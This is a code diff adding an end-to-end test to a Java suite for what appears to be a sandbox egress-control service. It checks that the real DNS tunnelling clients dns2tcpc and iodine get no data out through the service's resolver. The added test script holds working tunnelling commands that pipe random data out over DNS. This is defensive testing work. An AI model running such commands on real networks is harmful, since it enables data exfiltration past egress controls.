@@ -54,6 +54,7 @@ class TunnellingEndToEndTest {
     private static TestUpstreamDns upstream;
     private static KafkaCompanion kafka;
     private static String tools;
+    private static String tunnelTools;
 
     @TestHTTPResource("/")
     URI egressService;
@@ -61,6 +62,7 @@ class TunnellingEndToEndTest {
     @BeforeAll
     static void start() {
         tools = TestImages.httpTools(DockerClients.local());
+        tunnelTools = TestImages.tunnelTools(DockerClients.local());
         upstream = new TestUpstreamDns().startReserved();
         kafka = new KafkaCompanion(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
     }
@@ -128,5 +130,39 @@ class TunnellingEndToEndTest {
             assertThat(suspected.path("signals")).isNotEmpty();
             assertThat(suspected.path("run_id").asText()).isEqualTo(run.toString());
         });
+    }
+
+    /**
+     * The real clients, Debian's dns2tcpc and iodine, in a sandbox pointed at the resolver with the zone
+     * allow-listed: dns2tcp asks TXT (or KEY) only, so its first query (its authentication) is REFUSED
+     * (qtype_denied) and it gives up; iodine needs a tun device, which a sandbox does not have (no /dev/net/tun, no
+     * NET_ADMIN), and stops before it asks anything. Not one of their names reaches the upstream DNS.
+     */
+    @Test
+    void theRealTunnellingClientsGetNothingOut() throws Exception {
+        UUID company = UUID.randomUUID();
+        SandboxRuns.allow(company, "*." + ZONE);
+        upstream.clearQueries();
+        String resolver = EgressNetworkResource.GATEWAY;
+        String script = "head -c 3000 /dev/urandom | base64 | dns2tcpc -z " + ZONE + " -r ssh -l - -t 2 " + resolver
+                + " > /tmp/d 2>&1; echo \"dns2tcp_exit=$?\"; head -5 /tmp/d; "
+                + "iodine -f -r -P secret -T CNAME " + resolver + " " + ZONE + " > /tmp/i 2>&1 & p=$!; "
+                + "sleep 5; kill $p 2>/dev/null; head -5 /tmp/i; echo iodine_done";
+        UUID run = UUID.randomUUID();
+        SandboxRuns.sharedAdapter(egressService);
+
+        JsonNode status = SandboxRuns.publishAndAwait(kafka, Topics.RUN_REQUESTED, run,
+                SandboxRuns.sandboxRequest(run, company, tunnelTools, script, 60), Duration.ofSeconds(120));
+
+        String output = status.path("output").asText();
+        LOG.infof("the real clients in a sandbox:%n%s", output);
+        assertThat(status.path("status").asText()).as(output).isEqualTo("SUCCEEDED");
+        assertThat(output).as("dns2tcp's authentication was refused").contains("Auth error")
+                .as("iodine found no tun device").containsIgnoringCase("tun").contains("iodine_done");
+        assertThat(upstream.namesSeen()).as("nothing of either reached the upstream")
+                .noneMatch(name -> name.endsWith(ZONE));
+        await().atMost(Duration.ofSeconds(20)).untilAsserted(() -> assertThat(SandboxRuns.anomalies(company, null))
+                .anyMatch(a -> a.path("reason").asText().equals("qtype_denied")
+                        && a.path("qname").asText().endsWith(ZONE) && a.path("qtype").asText().equals("TXT")));
     }
 }
